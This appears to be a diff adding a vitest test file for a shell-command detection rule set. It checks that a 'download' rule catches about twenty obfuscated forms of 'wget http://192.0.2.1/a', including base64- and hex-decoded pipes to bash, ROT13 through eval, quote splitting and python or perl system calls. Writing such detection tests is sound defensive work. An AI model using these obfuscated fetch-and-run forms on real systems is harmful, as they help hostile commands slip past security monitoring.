@@ -1,0 +1,57 @@
+import { readFileSync } from 'node:fs';
+import { describe, expect, it } from 'vitest';
+import { z } from 'zod';
+import { readShell } from '../shell/read-shell.ts';
+import { loadRules } from './load-rules.ts';
+
+const folder = new URL('../../../../policy/attack/', import.meta.url).pathname;
+const { rules, match } = loadRules(`${folder}rules`);
+const catalogue = z
+  .object({ techniques: z.array(z.object({ id: z.string() })) })
+  .parse(JSON.parse(readFileSync(`${folder}catalogue.json`, 'utf8')));
+const known = new Set(catalogue.techniques.map(({ id }) => id));
+
+const hits = (line: string) => match(readShell(line)).map(({ rule }) => rule.id);
+
+describe.each(rules.map((rule) => [rule.id, rule] as const))('rule %s', (id, rule) => {
+  it.each(rule.matches)('answers its example %s', (line) => {
+    expect(hits(line)).toContain(id);
+  });
+
+  it.each(rule.ignores)('leaves alone what only looks alike: %s', (line) => {
+    expect(hits(line)).not.toContain(id);
+  });
+
+  it('names techniques that the catalogue has', () => {
+    expect(rule.techniques.filter((technique) => !known.has(technique))).toEqual([]);
+  });
+});
+
+describe('rules and disguise', () => {
+  it.each([
+    ['wget http://192.0.2.1/a', 'download'],
+    ['w""get http://192.0.2.1/a', 'download'],
+    ["w'g'et http://192.0.2.1/a", 'download'],
+    ['w\\get http://192.0.2.1/a', 'download'],
+    ['/usr/bin/wget http://192.0.2.1/a', 'download'],
+    ['busybox wget http://192.0.2.1/a', 'download'],
+    ['sudo -n nohup wget http://192.0.2.1/a &', 'download'],
+    ["$'\\x77\\x67\\x65\\x74' http://192.0.2.1/a", 'download'],
+    ['$(echo d2dldA==|base64 -d) http://192.0.2.1/a', 'download'],
+    ["$(printf '\\167get') http://192.0.2.1/a", 'download'],
+    ['a=wg;b=et;$a$b http://192.0.2.1/a', 'download'],
+    ['wget${IFS}http://192.0.2.1/a', 'download'],
+    ["sh -c 'wget http://192.0.2.1/a'", 'download'],
+    ['bash <<EOF\nwget http://192.0.2.1/a\nEOF', 'download'],
+    ['echo "wget http://192.0.2.1/a" | sh', 'download'],
+    ['echo d2dldCBodHRwOi8vMTkyLjAuMi4xL2E= | base64 -d | bash', 'download'],
+    ['echo 7767657420687474703a2f2f3139322e302e322e312f61 | xxd -r -p | sh', 'download'],
+    [`python3 -c 'import os; os.system("wget http://192.0.2.1/a")'`, 'download'],
+    [`perl -e 'system("wget http://192.0.2.1/a")'`, 'download'],
+    ['eval "$(echo jtrg uggc://192.0.2.1/n | tr a-z n-za-m)"', 'download'],
+    ['cd /tmp || cd /var/run && { wget http://192.0.2.1/a; }', 'download'],
+    ['if true; then wget http://192.0.2.1/a; fi', 'download'],
+  ])('%s is seen through', (line, rule) => {
+    expect(hits(line)).toContain(rule);
+  });
+});
